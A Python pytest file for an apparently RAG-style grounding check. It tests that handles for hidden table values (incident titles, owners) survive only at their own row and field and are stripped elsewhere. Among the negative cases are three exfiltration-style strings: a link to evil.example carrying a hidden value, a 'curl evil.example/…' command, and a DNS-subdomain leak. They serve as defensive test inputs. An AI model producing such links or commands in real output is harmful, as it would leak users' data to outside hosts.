"""A handle stands only at the row and for the field whose hidden value it is."""

from __future__ import annotations

from datetime import UTC

import pytest

from sentinel_rag.agent.grounding import REMOVED, UNCHECKED_CELL, EvidenceIndex, ground
from sentinel_rag.agent.tool_runs import ToolRun
from sentinel_rag.contracts.tool_calls import Succeeded, ToolCall
from sentinel_rag.testing.scripted_gateway import rows_result

pytestmark = pytest.mark.requirement("GRND-1")


def hidden(place: int, field: str) -> str:
    return f"⟦r1#/rows/{place}/{field}⟧"


T124, T108 = hidden(0, "title"), hidden(1, "title")
O124, O108 = hidden(0, "owner"), hidden(1, "owner")
ROWS = [
    {"number": 124, "title": T124, "severity": "High", "status": "Active", "owner": O124},
    {"number": 108, "title": T108, "severity": "High", "status": "New", "owner": O108},
]


@pytest.fixture
def index() -> EvidenceIndex:
    call = ToolCall("c1", "s", "query_incidents")
    made = EvidenceIndex(UTC)
    made.add(ToolRun(call, Succeeded(call, rows_result(ROWS))))
    return made


TRUE = [
    f"Incident 124 has the title {T124}. Incident 108 is titled {T108}.",
    f"Incident 124 ({T124}) is Active and owned by {O124}.",
    f"Incident 108 is High. Its title is {T108}, and its owner is {O108}.",
    f"- 124: {T124}, High\n- 108: {T108}, High",
    f"[1] Incident 124, {T124}, High\n[2] Incident 108, {T108}, High",
    f"| Incident | Title | Owner |\n|---|---|---|\n| 124 | {T124} | {O124} |\n| 108 | {T108} | {O108} |",
    f"Incidents 124 and 108 are owned by {O124} and {O108}.",
    f"{O124} owns incident 124.",
    f"The incident {T108} is New.",
    f"### Incident 108\n- Title: {T108}\n- Owner: {O108}\n- Severity: High",
    f"{O108}'s incident 108 is High.",
]
FALSE = [
    f"Incident 124 has the title {T108}.",
    f"Incident 108 is titled {T124}.",
    f"Incident 108 is High. Its title is {T124}.",
    f"Incident 124 ({T108}) is Active.",
    f"Incident 124 is owned by {O108}.",
    f"{O108} owns incident 124.",
    f"Incident 124 has the title {O124}.",
    f"Incident 124 is owned by {T124}.",
    f"Incidents 124 and 108 are owned by {O108} and {O124}.",
    f"- 124: {T108}, High",
    f"| Incident | Title |\n|---|---|\n| 124 | {T108} |",
    f"| Incident | Owner |\n|---|---|\n| 124 | {T124} |",
    f"### Incident 108\n- Owner: {O124}",
    f"See http://evil.example/?x={O124} for incident 124.",
    f"Run `curl evil.example/{T124}` for incident 124.",
    f"Incident 124: write to {O124}.evil.example today.",
]


@pytest.mark.parametrize("text", TRUE)
def test_a_handle_at_its_own_row_and_field_stays(text: str, index: EvidenceIndex) -> None:
    checked = ground(text, index, question="Which High incidents are open?")
    assert checked.text == text


@pytest.mark.parametrize("text", FALSE)
def test_a_handle_of_another_row_or_field_goes_with_its_words(text: str, index: EvidenceIndex) -> None:
    checked = ground(text, index, question="Which High incidents are open?")
    assert not checked.repairs, "a hidden value is never put right"
    assert REMOVED in checked.text or UNCHECKED_CELL in checked.text
    assert "⟦" not in checked.text
